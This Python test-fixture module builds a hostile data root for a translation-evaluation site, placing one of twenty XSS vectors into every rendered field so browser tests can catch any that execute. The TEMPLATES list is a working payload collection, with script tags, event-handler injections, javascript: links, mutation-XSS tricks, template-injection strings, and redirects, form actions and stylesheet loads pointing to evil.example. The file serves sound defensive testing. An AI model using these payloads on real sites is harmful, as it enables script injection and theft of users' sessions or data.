"""The XSS data root: the hostile fixture with one distinct vector in every rendered text field.

Built at test time from tests/fixtures/hostile. Each field gets a vector from ``TEMPLATES``
(rotating), tagged with the field's name; a vector that ran would push that name onto
``window.__xss``, open a dialog, or request https://evil.example/ - all three are watched
by tests/browser/test_hostile_xss.py. Annotator (and every other) ids cannot carry a vector:
ids are restricted to [a-z0-9._-], which ``test_ids_cannot_carry_a_vector`` checks.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from ..helpers import FIXTURES, copy_root

MARK = "window.__xss=(window.__xss||[]).concat('{f}')"
TEMPLATES = [
    "<script>" + MARK + "</script>",
    '<img src=x onerror="' + MARK + '">',
    '"><svg onload="' + MARK + '">',
    "'><img src=x onerror=alert('{f}')>",
    "</title></textarea></script><script>alert('{f}')</script>",
    '<iframe srcdoc="<script>parent.__xss=[\'{f}\']</script>"></iframe>',
    "[{f}](javascript:alert('{f}'))",
    "<a href=\"javascript:alert('{f}')\" id=\"xss-link\">{f}</a>",
    "<details open ontoggle=\"" + MARK + "\">",
    "{{{{ 7*7 }}}} {{% print('{f}') %}} ${{alert('{f}')}}",
    '<img src="https://evil.example/{f}.png">',
    '<style>@import "https://evil.example/{f}.css";</style>',
    '<math><mtext><table><mglyph><style><img src=x onerror="' + MARK + '">',
    '<!--<img src="--><img src=x onerror="' + MARK + '"//">',
    "\u202e<svg><animate onbegin=\"" + MARK + "\" attributeName=x dur=1s>",
    "<object data=\"javascript:alert('{f}')\"></object>",
    "<base href=\"https://evil.example/{f}/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/{f}\">",
    "<form action=\"https://evil.example/{f}\"><button autofocus onfocus=\""
    + MARK
    + "\">x</button></form>",
    "<link rel=stylesheet href=\"https://evil.example/{f}.css\">",
]


class Vectors:
    """Hands out one vector per field and remembers which field got which."""

    def __init__(self) -> None:
        self.by_field: dict[str, str] = {}

    def __call__(self, field: str) -> str:
        assert field not in self.by_field, field
        template = TEMPLATES[len(self.by_field) % len(TEMPLATES)]
        self.by_field[field] = f"[{field}] " + template.format(f=field.replace("'", ""))
        return self.by_field[field]


def _yaml(path: Path, data: dict[str, Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(f"{k}: {json.dumps(v)}\n" for k, v in data.items()), encoding="utf-8")


def _jsonl(path: Path, records: list[dict[str, Any]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")


def _read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [
        json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()
    ]


def build_xss_root(tmp: Path) -> tuple[Path, dict[str, str]]:
    """(data root, {field: vector}); the root validates."""
    root = copy_root(FIXTURES / "hostile", tmp / "xss")
    v = Vectors()
    _yaml(
        root / "corpus/dataset.yaml",
        {
            "id": "hostile",
            "title": v("dataset.title"),
            "version": "1",
            "demo": True,
            "description": v("dataset.description"),
            "licence": v("dataset.licence"),
            "citation": v("dataset.citation"),
            "notes": [v("dataset.notes")],
        },
    )
    _yaml(
        root / "corpus/works/w-evil/work.yaml",
        {
            "id": "w-evil",
            "title": v("work.title"),
            "author": v("work.author"),
            "source_lang": "en",
            "genre": "novel",
            "era": "contemporary",
            "edition": v("work.edition"),
            "rights": {
                "status": "public-domain",
                "note": v("work.rights.note"),
                "licence": v("work.rights.licence"),
            },
            "links": [v("work.links")],
            "notes": [v("work.notes")],
            "translations": [
                {
                    "year": v("work.translations.year"),
                    "translator": v("work.translations.translator"),
                    "link": v("work.translations.link"),
                }
            ],
        },
    )
    paragraphs = _read_jsonl(root / "corpus/works/w-evil/paragraphs.jsonl")
    paragraphs[0]["note"] = v("paragraph.note")
    paragraphs[1]["text"] += " " + v("paragraph.text")
    _jsonl(root / "corpus/works/w-evil/paragraphs.jsonl", paragraphs)
    for system, kind in (("evil-mt", "llm"), ("evil-ht", "human")):
        card = {
            "id": system,
            "name": v(f"{system}.name"),
            "kind": kind,
            "modality": "MT" if kind == "llm" else "HT",
        }
        if kind == "llm":
            card |= {
                f: v(f"{system}.{f}")
                for f in (
                    "model",
                    "size",
                    "version",
                    "date",
                    "prompt",
                    "submitted_by",
                    "licence",
                    "url",
                    "description",
                )
            }
        else:
            card["translator"] = v(f"{system}.translator")
        _yaml(root / f"corpus/systems/{system}/system.yaml", card)
        outputs = _read_jsonl(root / f"corpus/systems/{system}/en-de.jsonl")
        outputs[1]["text"] += " " + v(f"{system}.translation")
        _jsonl(root / f"corpus/systems/{system}/en-de.jsonl", outputs)
    _judgments(root, v)
    return root, v.by_field


def _campaign(
    root: Path, cid: str, v: Vectors, extra: dict[str, Any], annotators: list[str]
) -> None:
    path = root / f"judgments/{cid}/campaign.yaml"
    old = {}
    for line in path.read_text(encoding="utf-8").splitlines() if path.exists() else []:
        key, _, value = line.partition(": ")
        old[key] = value
    data: dict[str, Any] = {
        "id": cid,
        "title": v(f"{cid}.title"),
        "description": v(f"{cid}.description"),
        "guideline": v(f"{cid}.guideline"),
        "source": v(f"{cid}.source"),
        **extra,
    }
    if annotators:
        data["annotators"] = [
            {"id": a, "expertise": "professional", "note": v(f"{cid}.annotators.{a}.note")}
            for a in annotators
        ]
    _yaml(path, data)


def _judgments(root: Path, v: Vectors) -> None:
    j = root / "judgments"
    _campaign(
        root,
        "mqm-evil",
        v,
        {"scheme": "mqm", "mqm": {"variant": "paper000", "typology": "paper000"}},
        ["a1", "a2", "judge"],
    )
    records = _read_jsonl(j / "mqm-evil/a.jsonl")
    records[0]["errors"][0]["comment"] = v("mqm.comment")
    _jsonl(j / "mqm-evil/a.jsonl", records)
    _campaign(root, "free-evil", v, {"scheme": "free"}, ["p1"])
    records = _read_jsonl(j / "free-evil/a.jsonl")
    records[0]["spans"][0]["comment"] = v("free.comment")
    _jsonl(j / "free-evil/a.jsonl", records)
    _campaign(root, "bws-evil", v, {"scheme": "bws"}, ["a1"])
    records = _read_jsonl(j / "bws-evil/a.jsonl")
    records[0]["comment"] = v("bws.comment")
    _jsonl(j / "bws-evil/a.jsonl", records)
    _campaign(
        root,
        "metric-evil",
        v,
        {
            "scheme": "metric",
            "metric": {
                "name": v("metric.name"),
                "higher_is_better": True,
                "signature": v("metric.signature"),
                "reference": v("metric.reference"),
            },
            "judge": {"model": v("metric.judge.model"), "prompt": v("metric.judge.prompt")},
        },
        [],
    )
    records = _read_jsonl(j / "metric-evil/s.jsonl")
    records[0]["spans"][0]["comment"] = v("metric.span.comment")
    records[0]["raw"] = v("metric.raw")
    records[1] |= {"score": None, "error": v("metric.error")}
    _jsonl(j / "metric-evil/s.jsonl", records)
    _campaign(root, "crea-evil", v, {"scheme": "creativity"}, ["c1"])
    records = _read_jsonl(j / "crea-evil/a.jsonl")
    ucp = records[0]["ucps"][0]
    ucp |= {
        "comment": v("ucp.comment"),
        "source_text": v("ucp.source_text"),
        "target_text": v("ucp.target_text"),
    }
    records[0]["kudos"][0]["comment"] = v("kudos.comment")
    _jsonl(j / "crea-evil/a.jsonl", records)
    base = {"system": "evil-mt", "pair": "en-de", "paragraph": "h1", "annotator": "a1"}
    _campaign(root, "sqm-evil", v, {"scheme": "sqm"}, ["a1"])
    _jsonl(
        j / "sqm-evil/a.jsonl",
        [
            base | {"score": 4, "comment": v("sqm.comment")},
            base | {"system": "evil-ht", "score": 6},
        ],
    )
    _campaign(root, "pairwise-evil", v, {"scheme": "pairwise"}, ["a1"])
    _jsonl(
        j / "pairwise-evil/a.jsonl",
        [
            {k: base[k] for k in ("pair", "paragraph", "annotator")}
            | {"a": "evil-ht", "b": "evil-mt", "preference": "a", "comment": v("pairwise.comment")}
        ],
    )
    criterion = v("ruler.criterion")
    _campaign(root, "ruler-evil", v, {"scheme": "ruler", "criteria": [criterion]}, ["a1"])
    _jsonl(
        j / "ruler-evil/a.jsonl", [base | {"scores": {criterion: 4}, "comment": v("ruler.comment")}]
    )
    _campaign(root, "verse-evil", v, {"scheme": "verse"}, ["a1"])
    _jsonl(
        j / "verse-evil/a.jsonl",
        [
            base
            | {
                "answers": [
                    {
                        "question": v("verse.question"),
                        "category": v("verse.category"),
                        "answer": 2,
                        "comment": v("verse.answer.comment"),
                    }
                ],
                "comment": v("verse.comment"),
            }
        ],
    )
